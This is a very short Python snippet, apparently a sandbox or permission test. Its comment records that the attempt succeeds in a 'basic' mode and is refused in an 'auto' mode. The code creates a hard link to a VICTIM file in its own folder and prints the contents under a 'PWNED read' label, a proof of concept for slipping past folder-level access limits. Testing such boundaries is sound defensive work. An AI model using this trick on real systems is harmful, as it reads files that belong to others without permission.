# brings the author's file into its folder by a hard link | basic: works finished | auto: refused error
import os

os.link(VICTIM, "copy")
print("PWNED read", open("copy").read())
